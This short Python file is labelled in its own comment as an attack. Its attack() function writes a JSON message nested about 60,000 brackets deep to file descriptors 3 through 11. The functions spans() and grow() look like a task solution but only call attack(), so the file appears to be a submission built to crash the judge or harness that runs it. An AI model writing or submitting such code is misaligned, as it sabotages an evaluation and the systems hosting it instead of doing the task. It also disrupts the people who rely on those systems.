# attack: Sends an answer that is nested a hundred thousand times.
import os


def attack():
    for descriptor in range(3, 12):
        try:
            os.write(descriptor, b'{"id": 2, "value": ' + b"[" * 60000 + b"]" * 60000 + b"}\n")
        except OSError:
            pass


def spans(readers, cost):
    return attack()


def grow(root, readers, spans, fits):
    return attack()
